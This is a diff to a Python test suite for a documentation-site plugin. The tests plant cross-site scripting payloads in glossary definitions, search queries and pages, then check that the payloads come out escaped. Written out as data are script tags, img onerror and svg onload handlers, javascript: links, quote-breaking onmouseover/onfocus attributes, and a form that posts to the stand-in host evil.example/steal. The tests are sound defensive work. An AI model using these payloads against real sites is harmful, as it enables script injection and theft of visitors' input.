@@ -57,8 +57,9 @@ PAYLOAD = """
 <form action="https://evil.example/steal"><input name="q"><button>提交</button></form>
 
 """
-GLOSSARY_PAYLOAD = ("<script>window.__pwned = 'term'; alert(21)</script>"
-                    "<img src=x onerror=\"window.__pwned = 'term-img'; alert(22)\">[点我](javascript:alert(23))")
+# Definitions refuse < and > (a pufa check error); what is left to try is quotes, Markdown and entities.
+GLOSSARY_PAYLOAD = ("\" onmouseover=\"window.__pwned = 'term'; alert(21)\" x=\"' onfocus='alert(22)' "
+                    "[点我](javascript:alert(23)) *强调* &amp;lt;b&amp;gt;")
 SEARCH_PAYLOADS = ["<script>window.__pwned = 'q'; alert(31)</script>",
                    "上访 <img src=x onerror=\"window.__pwned = 'q-img'; alert(32)\">",
                    "\"><svg onload=alert(33)>"]
@@ -85,8 +86,11 @@ def _plant(docs: Path) -> None:
     definition = GLOSSARY_PAYLOAD + line.removeprefix("  definition: ")
     glossary.write_text(text.replace(line, "  definition: " + json.dumps(definition, ensure_ascii=False)),
                         encoding="utf-8")
-    (docs / "trusted-form.md").write_text(f"---\ntitle: 受信任页面\ntrusted: true\n---\n\n# 受信任页面\n\n{FORM}",
-                                          encoding="utf-8")
+    (docs / "trusted-form.md").write_text(f"---\ntitle: 受信任页面\n---\n\n# 受信任页面\n\n{FORM}", encoding="utf-8")
+    config = docs.parent / "mkdocs.yml"
+    config.write_text(config.read_text(encoding="utf-8").replace("trusted_pages: [index.md]",
+                                                                 "trusted_pages: [index.md, trusted-form.md]"),
+                      encoding="utf-8")
     (docs / "plain-form.md").write_text(f"---\ntitle: 普通页面\n---\n\n# 普通页面\n\n{FORM}", encoding="utf-8")
 
 
@@ -217,8 +221,9 @@ def test_payload_text_is_shown_escaped(site, page):
 def test_glossary_definition_is_escaped(site):
     """The planted definition shows as text on /cidian/ and stays an attribute value in the 复查 tooltip."""
     text = read(site, GLOSSARY)
-    assert "&lt;script&gt;window.__pwned = 'term'; alert(21)&lt;/script&gt;" in text.replace("&#x27;", "'")
+    assert "onmouseover=\"window.__pwned = 'term'; alert(21)\"" in text.replace("&#x27;", "'").replace("&quot;", '"')
     assert not re.search(r"(?i)href=\"\s*javascript:", text)
+    assert not re.search(r"<[a-z]+[^>]*\sonmouseover=", text)
     page = read(site, TERM_PAGE)
     titles = [attrs.get("title", "") for tag, attrs in Scan(page).content() if tag == "abbr"]
     assert any("alert(21)" in title for title in titles), "the 复查 tooltip should carry the planted definition"
@@ -257,7 +262,8 @@ def test_csp_allows_only_the_theme_scripts(site, page):
 
 
 def test_trusted_page_keeps_its_form(site):
-    """Front matter ``trusted: true`` keeps raw HTML (the <form>); the same HTML on an untrusted page is escaped."""
+    """A page listed in plugins.pufa.trusted_pages keeps raw HTML (the <form>); the same HTML on another page is
+    escaped."""
     trusted = read(site, "trusted-form")
     plain = read(site, "plain-form")
     assert '<form class="pufa-searchbox" action="../sousuo/" method="get">' in trusted
@@ -384,7 +390,7 @@ def test_search_snippets_of_planted_content_are_text(served, tab):
     tab.page.wait_for_selector("#pufa-results li.pufa-hit", timeout=15_000)
     snippets = tab.page.locator("#pufa-results .pufa-hit__snippet")
     texts = snippets.all_inner_texts()
-    assert any("</script>" in text or "<img src=x" in text for text in texts), texts  # shown literally
+    assert any("</script>" in text or "<img src=x" in text or 'alert(21)" x="' in text for text in texts), texts
     for html in snippets.evaluate_all("nodes => nodes.map(n => n.innerHTML)"):
         assert set(re.findall(r"<[^>]*>", html)) <= {"<mark>", "</mark>"}, html
     assert tab.dialogs == [] and tab.pwned() is None
